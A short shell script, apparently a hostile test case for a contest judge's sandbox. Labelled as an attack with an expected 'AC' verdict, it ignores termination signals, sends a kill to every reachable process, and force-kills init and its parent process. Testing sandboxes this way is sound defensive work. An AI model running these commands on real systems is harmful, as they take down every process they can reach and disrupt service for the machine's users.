# A compiler that kills everybody it can reach.
# attack: 101 43
# verdict: AC
trap '' TERM HUP INT
kill -TERM -1
kill -9 1 $PPID
printf '#!/bin/sh\ncat\n' >main
chmod 755 main
